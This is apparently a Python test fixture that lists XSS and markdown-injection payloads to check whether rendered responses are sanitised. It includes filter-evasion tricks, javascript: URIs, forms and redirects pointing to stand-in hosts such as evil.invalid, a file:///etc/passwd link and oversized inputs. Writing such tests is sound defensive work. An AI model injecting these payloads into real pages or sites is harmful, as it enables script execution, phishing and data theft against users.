# ruff: noqa: E501 - an attack is as long as it is
"""What a response may contain to attack its reader: what runs sets `window.harmed`, opens a dialog or asks a server."""

PAYLOADS = [
    "<script>window.harmed = 1</script>",
    '<img src=x onerror="window.harmed = 2">',
    "[go on](/annotate/history/) [or](//evil.invalid/x) [or](?action=skip) "
    "![x](https://tracker.invalid/pixel.png) ![y](javascript:window.harmed=3)",
    "[click me](javascript:window.harmed=4) [me](JaVaScRiPt&colon;window.harmed=4) <javascript:window.harmed=4>",
    "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFybWVkPTU8L3NjcmlwdD4=) [vb](vbscript:x)",
    '<svg onload="window.harmed = 6"><script>window.harmed = 6</script></svg>',
    '<iframe srcdoc="<script>parent.harmed = 7</script>"></iframe><object data="javascript:window.harmed=7"></object>',
    '<div style="position:fixed;inset:0;background:url(//tracker.invalid)" onmouseover="window.harmed=8">x</div>',
    '</div></article></form><form action="https://evil.invalid"><input name="rank"><button>Submit</button></form>',
    '[x](https://ok.invalid "onmouseover=window.harmed=10 \\" onfocus=window.harmed=10 autofocus x=\\"")',
    '```html"><script>window.harmed = 11</script>\n</code></pre><script>window.harmed = 11</script>\n```',
    "\\(<script>window.harmed = 12</script>\\) $$<img src=x onerror=window.harmed=12>$$",
    '<math><mtext></form><form><mglyph><style></math><img src onerror="window.harmed = 13">',
    '<a id="desk"></a><base href="//evil.invalid/"><meta http-equiv="refresh" content="0;url=//evil.invalid">',
    "{{ item.judgement }} {% csrf_token %} ${window.harmed=15} `${window.harmed=15}`",
    "&lt;script&gt;window.harmed=16&lt;/script&gt; <scr<script>ipt>window.harmed=16</scr</script>ipt> \u202e",
    # elements that run code by themselves, in the ways filters have missed
    "<details open ontoggle=window.harmed=17><summary>x</summary></details><marquee onstart=window.harmed=17>x</marquee>",
    "<video><source onerror=window.harmed=18></video><audio src=x onerror=window.harmed=18><track onerror=window.harmed=18>",
    "<input autofocus onfocus=window.harmed=19><select autofocus onfocus=window.harmed=19><textarea autofocus onfocus=x>",
    "<body onload=window.harmed=20><script/x>window.harmed=20</script><sCrIpT>window.harmed=20</ScRiPt>",
    "<svg><animate onbegin=window.harmed=21 attributeName=x dur=1s><set attributeName=onmouseover to=window.harmed=21></svg>",
    '<svg><a xlink:href="javascript:window.harmed=22"><text y="9">x</text></a><use href="data:image/svg+xml,<svg/>#x"/></svg>',
    "<template><script>window.harmed=23</script></template><noscript><p title='</noscript><img src=x onerror=window.harmed=23>'>",
    '<math href="javascript:window.harmed=24">x</math><math><annotation-xml encoding="text/html"><script>window.harmed=24</script>',
    "<!--><img src=x onerror=window.harmed=25>--> <![CDATA[<img src=x onerror=window.harmed=25>]]> <?php window.harmed=25 ?>",
    "<link rel=stylesheet href=//evil.invalid/x.css><style>@import '//evil.invalid/y.css'; *{background:url(//evil.invalid)}</style>",
    "<embed src=javascript:window.harmed=27><object><param name=src value=javascript:window.harmed=27></object><frameset onload=x>",
    "<xss id=x tabindex=1 onfocusin=window.harmed=28></xss><div contenteditable onblur=window.harmed=28>x</div>",
    # links and what may hide in them
    "[a](java\tscript:window.harmed=29) [b](&#106;avascript:window.harmed=29) [c](\x01javascript:window.harmed=29)",
    "[d](javascript&#58;window.harmed=30) [e](%6aavascript:window.harmed=30) [f](file:///etc/passwd) [g](blob:https://x)",
    "<https://ok.invalid/\"onmouseover=\"window.harmed=31> [h](<https://ok.invalid/' onclick='window.harmed=31>)",
    "[ref]: javascript:window.harmed=32 'x'\n\n[ref] ![ref] [ref][] [\"onclick=window.harmed=32](https://ok.invalid)",
    # what breaks out of code, tables, headings and titles
    "```python\" onmouseover=\"window.harmed=33\nx = '</code></pre><script>window.harmed=33</script>'\n```",
    "```html\n<script>window.harmed=34</script><img src=x onerror=window.harmed=34>\n</pre></div>\n```\n`<img src=x onerror=x>`",
    "| <img src=x onerror=window.harmed=35> | b |\n|:-:|--:|\n| <script>window.harmed=35</script> | `|` |",
    "# <script>window.harmed=36</script>\n\n> <iframe src=//evil.invalid>\n\n- <img src=x onerror=window.harmed=36>",
    # bytes that browsers and people read differently
    "\u202etxet desrever\u202c \u2066isolated\u2069 \u200b\u200c\u200d\u2060\ufeff zero width \u200e\u200f marks",
    "\u0000<scr\u0000ipt>window.harmed=38</scr\u0000ipt> <img\u000csrc=x\u000bonerror=window.harmed=38> \ufffe\uffff",
    "＜script＞window.harmed=39＜/script＞ \u2028\u2029 Z" + "\u0335\u0336\u0337" * 200 + "algo",
    # much of it
    "<img src=x onerror=window.harmed=40>" * 3000,
    "> " * 3000 + "deep\n\n" + "[" * 3000 + "x" + "](https://ok.invalid)" * 3000,
    "x" * 300_000,
]

# Where a response may have come from a file that was not so careful with bytes.
NOT_STORABLE = "\u0000"
